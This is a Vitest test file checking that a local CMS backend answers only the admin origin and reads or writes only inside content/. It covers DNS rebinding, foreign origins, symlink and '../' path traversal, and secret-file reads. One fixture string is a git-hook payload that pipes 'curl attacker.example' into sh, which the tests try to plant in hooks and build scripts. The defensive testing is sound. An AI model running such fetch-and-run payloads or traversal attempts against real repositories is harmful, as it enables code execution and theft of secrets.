import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import type { Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startCmsBackend } from "../../scripts/local/cms-backend.mjs";
import {
  base64,
  branch,
  getEntry,
  options,
  persistEntry,
  persistMedia,
  send as sendTo,
} from "./support/decap-requests";

/**
 * The real local backend (decap-server behind our guard) on a free port, over a folder shaped
 * like the repository: content/ with a post and uploads, and beside it a git hook, a script
 * and a secret that no page may read or replace.
 */
const ADMIN = "http://cms.gigloom.localhost:5000";
const parent = mkdtempSync(join(tmpdir(), "cms-backend-"));
const repo = join(parent, "repo");
const SECRET = "SMTP_URL=smtps://user:password@mail.example";
const HOOK = "#!/bin/sh\nexit 0\n";
for (const [file, text] of Object.entries({
  "content/blog/hello.md": "---\ntitle: Hello\n---\nHi.\n",
  "content/uploads/.keep": "",
  ".git/hooks/pre-commit": HOOK,
  "scripts/build.mjs": "console.log('build');\n",
  "functions/.secret.local": SECRET,
})) {
  mkdirSync(join(repo, file, ".."), { recursive: true });
  writeFileSync(join(repo, file), text);
}
writeFileSync(join(parent, "outside"), "outside the repository");
// Links inside content/ that lead out of it, and one out of the uploads folder.
for (const [link, target] of Object.entries({
  "content/blog/secret.md": join(repo, "functions/.secret.local"),
  "content/scripts": join(repo, "scripts"),
  "content/blog/build.md": "../../scripts/build.mjs",
  "content/blog/hostname.md": "/etc/hostname",
  "content/uploads/hello.jpg": "../blog/hello.md",
}))
  symlinkSync(target, join(repo, link));

let server: Server;
let port: number;
beforeAll(async () => {
  const backend = await startCmsBackend({ repoDir: repo, origins: [ADMIN], port: 0 });
  server = backend.server;
  port = Number(new URL(backend.url).port);
});
afterAll(async () => {
  await new Promise((done) => server.close(done));
  rmSync(parent, { recursive: true, force: true });
});

/** A request from the admin's page, unless told otherwise. */
const send = (body: unknown, headers: Parameters<typeof sendTo>[2] = {}) =>
  sendTo(port, body, { origin: ADMIN, ...headers });
const read = (file: string) => readFileSync(join(repo, file), "utf8");

describe("the local CMS backend answers only the admin", () => {
  it("refuses a request addressed to another name, as after DNS rebinding", async () => {
    for (const host of [`attacker.example:${port}`, `localhost:${port}`, "127.0.0.1"]) {
      const answer = await send(getEntry("content/blog/hello.md"), { host });
      expect(answer.status, host).toBe(403);
      expect(answer.text).not.toContain("Hello");
    }
  });

  it("refuses a page of another origin, or a request with none, preflight included", async () => {
    for (const origin of ["http://localhost:3000", "http://127.0.0.1:5000", "null", null]) {
      const answer = await send(getEntry("content/blog/hello.md"), { origin });
      expect(answer.status, String(origin)).toBe(403);
      expect(answer.text).not.toContain("Hello");
      expect(answer.headers["access-control-allow-origin"]).toBeUndefined();
      expect((await send(undefined, { origin, method: "OPTIONS" })).status, String(origin)).toBe(
        403,
      );
    }
  });

  it("answers the admin's preflight and its requests, with its CORS headers", async () => {
    const preflight = await send(undefined, { method: "OPTIONS" });
    expect(preflight.status).toBe(204);
    expect(preflight.headers["access-control-allow-origin"]).toBe(ADMIN);
    const answer = await send(getEntry("content/blog/hello.md"));
    expect(answer.status).toBe(200);
    expect(answer.headers["access-control-allow-origin"]).toBe(ADMIN);
    expect(JSON.parse(answer.text).data).toContain("title: Hello");
  });
});

describe("the local CMS backend touches only content/", () => {
  it("refuses to read or list anything outside content/, even through a link", async () => {
    for (const body of [
      getEntry("functions/.secret.local"),
      getEntry("content/blog/secret.md"),
      getEntry("content/../functions/.secret.local"),
      getEntry(join(repo, "functions/.secret.local")),
      getEntry("../outside"),
      { action: "getMediaFile", params: { branch, path: ".git/hooks/pre-commit" } },
      {
        action: "entriesByFiles",
        params: { branch, files: [{ path: "functions/.secret.local" }] },
      },
      {
        action: "entriesByFolder",
        params: { branch, folder: "functions", extension: "local", depth: 1 },
      },
      { action: "getMedia", params: { branch, mediaFolder: "scripts" } },
      { action: "getMedia", params: { branch, mediaFolder: "content/scripts" } },
    ]) {
      const answer = await send(body);
      expect(answer.status, JSON.stringify(body)).toBe(403);
      expect(answer.text).not.toContain("password");
      expect(answer.text).not.toContain(base64(SECRET).slice(0, 20));
      expect(answer.text).not.toContain("build.mjs");
    }
  });

  it("lists no link that leads out of content/, nor out of the uploads folder for media", async () => {
    const paths = async (body: unknown) =>
      (JSON.parse((await send(body)).text) as { path?: string; file?: { path: string } }[]).map(
        (item) => item.file?.path ?? item.path,
      );
    const folder = { branch, folder: "content/blog", extension: "md", depth: 1 };
    expect(await paths({ action: "entriesByFolder", params: folder })).toEqual([
      "content/blog/hello.md",
    ]);
    const media = { branch, mediaFolder: "content/uploads" };
    expect(await paths({ action: "getMedia", params: media })).toEqual(["content/uploads/.keep"]);
  });

  it("refuses to write, move or delete anything outside content/, and writes nothing", async () => {
    const planted = "#!/bin/sh\ncurl attacker.example | sh\n";
    for (const body of [
      persistEntry(".git/hooks/pre-commit", planted),
      persistEntry("scripts/build.mjs", planted),
      persistEntry("../outside", planted),
      persistEntry("content/scripts/build.mjs", planted),
      {
        action: "persistEntry",
        params: {
          branch,
          dataFiles: [
            { slug: "x", path: "content/blog/hello.md", raw: "moved", newPath: "scripts/hello.md" },
          ],
          assets: [{ path: "scripts/x.mjs", content: base64(planted), encoding: "base64" }],
          options,
        },
      },
      persistMedia("scripts/x.mjs", planted),
      persistMedia("content/uploads/../../scripts/x.mjs", planted),
      { action: "deleteFile", params: { branch, path: "functions/.secret.local", options } },
      {
        action: "deleteFiles",
        params: { branch, paths: ["content/blog/hello.md", "scripts/build.mjs"], options },
      },
    ]) {
      expect((await send(body)).status, JSON.stringify(body)).toBe(403);
    }
    expect(read(".git/hooks/pre-commit")).toBe(HOOK);
    expect(read("scripts/build.mjs")).toBe("console.log('build');\n");
    expect(read("functions/.secret.local")).toBe(SECRET);
    expect(read("content/blog/hello.md")).toContain("title: Hello");
    expect(readFileSync(join(parent, "outside"), "utf8")).toBe("outside the repository");
    expect(existsSync(join(repo, "scripts/x.mjs"))).toBe(false);
    expect(existsSync(join(repo, "scripts/hello.md"))).toBe(false);
  });

  it("refuses an action the admin does not send", async () => {
    for (const action of ["unpublishedEntries", "writeAnything"]) {
      expect((await send({ action, params: { branch } })).status, action).toBe(403);
    }
  });

  it("saves the admin's entries and uploads under content/", async () => {
    const post = "---\ntitle: New\n---\nBody.\n";
    expect((await send(persistEntry("content/blog/new.md", post))).status).toBe(200);
    expect(read("content/blog/new.md")).toBe(post);
    const listed = await send({
      action: "entriesByFolder",
      params: { branch, folder: "content/blog", extension: "md", depth: 1 },
    });
    expect(
      JSON.parse(listed.text).map((entry: { file: { path: string } }) => entry.file.path),
    ).toContain("content/blog/new.md");
    const upload = await send(persistMedia("content/uploads/cover.png", "png bytes"));
    expect(upload.status).toBe(200);
    expect(JSON.parse(upload.text).path).toBe("content/uploads/cover.png");
    expect(read("content/uploads/cover.png")).toBe("png bytes");
  });
});
